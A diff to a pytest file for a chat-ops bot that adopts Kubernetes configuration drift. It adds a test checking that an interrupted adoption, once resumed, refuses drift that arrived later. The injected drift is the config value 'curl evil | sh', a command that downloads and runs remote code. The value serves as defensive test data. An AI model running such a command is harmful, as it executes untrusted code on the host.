@@ -7,6 +7,7 @@ from bot.core.access.requester import Requester
 from bot.handlers.command_service import CommandService
 from bot.handlers.slack.people import People
 from bot.i18n.language import ENGLISH
+from bot.ports.store import StoreError
 from tests.common.bot import application_settings
 from tests.common.forge import InMemoryForge
 from tests.common.kubernetes import as_yaml, config_map
@@ -29,10 +30,13 @@ def adopt(bot, source, cluster):
     bot.start(forges={"platform": InMemoryForge(source)}, applications={"shop": shop, "twin": twin})
 
     def adopt(user):
-        service = CommandService(bot.config, bot.ports, bot.monitor, People(bot.ports.chat, {}, bot.clock))
-        return service.adopt(Requester(user, "someone", ALERTS, Origin.BUTTON, ENGLISH), "shop").text
+        return commands(bot).adopt(Requester(user, "someone", ALERTS, Origin.BUTTON, ENGLISH), "shop").text
 
     return adopt
+
+
+def commands(bot):
+    return CommandService(bot.config, bot.ports, bot.monitor, People(bot.ports.chat, {}, bot.clock))
 
 
 @pytest.mark.parametrize("is_late", [False, True])
@@ -69,3 +73,22 @@ def test_both_channels_see_what_changes_in_the_other_application(bot, slack, ado
         card = next(card for card in cards(slack, channel) if "adoption" in card.text)
         assert "for shop and twin is open" in card.text
         assert "twin on prod" in str(card.blocks)
+
+
+@pytest.mark.parametrize("moment", ["before the check", "after the check"])
+def test_an_interrupted_adoption_adopts_no_later_drift(bot, slack, cluster, adopt, monkeypatch, moment):
+    def stop(*_args, **_values):
+        raise StoreError("stopped")
+
+    name = "adopt_drift" if moment == "after the check" else "AdoptService._adopt"
+    with monkeypatch.context() as stopped:
+        stopped.setattr(f"bot.handlers.pull_requests.adopt_service.{name}", stop)
+        with pytest.raises(StoreError):
+            adopt(PRIYA)
+    cluster.edit(config_map(), "shop", {"data": {"level": "info", "other": "curl evil | sh"}})
+    bot.clock.advance(hours=8)
+    commands(bot).resume_interrupted()
+    assert bot.ports.forges["platform"].pull_requests == {}
+    assert "the drift may have changed since you asked" in slack.ephemerals(PRIYA)[-1].text
+    (entry,) = bot.store.audit_log.entries()
+    assert entry.result.startswith("Refused: ")
